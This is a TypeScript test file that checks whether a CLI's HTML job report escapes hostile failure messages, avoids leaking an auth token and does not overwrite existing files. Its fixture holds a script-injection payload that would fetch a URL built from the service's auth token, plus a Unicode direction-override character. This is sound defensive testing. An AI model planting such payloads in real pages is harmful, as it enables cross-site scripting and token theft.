import { readFile, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ADD_USERS, createBulkUser, findOnlyJob } from './bulk-service.ts';
import { success } from './mock-service.ts';

/** Creates a job in which every user with a 7 failed for a hostile reason. */
async function createFailedJob() {
  const world = await createBulkUser(300, (ids) =>
    success(
      Object.fromEntries(
        ids.map((id) => [
          id,
          id.includes('7')
            ? {
                success: false,
                message: `<script>fetch('//${world.env.SVC_AUTH_TOKEN}')</script>\u202e${id}`,
                code: 'not-found',
              }
            : { success: true },
        ]),
      ),
    ),
  );
  expect((await world.svc(...ADD_USERS)).code).toBe(10);
  return { ...world, job: await findOnlyJob(world.svc) };
}

describe('svc jobs show --html', () => {
  it('writes exactly one file and never overwrites another one', async () => {
    const { svc, home, job, env } = await createFailedJob();
    const first = await svc('jobs', 'show', job, '--html');
    expect([first.code, first.stdout, first.stderr]).toEqual([0, '', `Wrote ${job}.html\n`]);
    const path = join(home, `${job}.html`);
    const page = await readFile(path, 'utf8');
    expect((await stat(path)).mode & 0o777).toBe(0o600);
    expect(page).toContain('&#60;script&#62;fetch(&#39;//');
    expect(page).not.toMatch(/<script|\u202e/);
    expect(page).not.toContain(env.SVC_AUTH_TOKEN);
    await writeFile(path, 'mine');
    const again = await svc('jobs', 'show', '--html');
    expect([again.code, again.stderr]).toEqual([
      2,
      expect.stringContaining(`${job}.html already exists`),
    ]);
    expect(await readFile(path, 'utf8')).toBe('mine');
    const printed = await svc('jobs', 'show', '--html', '--file', '-');
    expect([printed.code, printed.stdout, printed.stderr]).toEqual([0, page, '']);
    const old = await svc('jobs', 'report', job, '--html', '--file', '-');
    expect([old.code, old.stdout]).toEqual([0, page]);
  });

  it('leaves no file behind if the page cannot be written', async () => {
    const { svc, home, job } = await createFailedJob();
    expect((await svc('jobs', 'show', '--html', '--file', 'no/such/folder.html')).code).toBe(12);
    expect((await svc('jobs', 'show', '--file', 'x.html')).code).toBe(2);
    expect((await svc('jobs', 'report', job)).code).toBe(2);
    expect((await svc('jobs', 'show', '20260131-094500-5f3a9c', '--html')).code).toBe(2);
    await expect(stat(join(home, `${job}.html`))).rejects.toThrow('ENOENT');
  });
});

describe('svc jobs show', () => {
  it('prints text for people and JSON for programs', async () => {
    const { svc, job } = await createFailedJob();
    const shown = (await svc('jobs', 'show', job)).stdout;
    expect(shown).toMatch(/^records {4}300: 243 succeeded, 57 failed$/m);
    expect(shown).toMatch(
      /^failures {3}57 failed: <script>fetch\('\/\/.*'\)<\/script>\\u202e\(id\) \(not-found\): u7 on line 8, u17 on line 18, …$/m,
    );
    const { reasons, counts } = JSON.parse((await svc('jobs', 'show', job, '-o', 'json')).stdout);
    expect([counts.failed, reasons.most[0].count]).toEqual([57, 57]);
  });
});
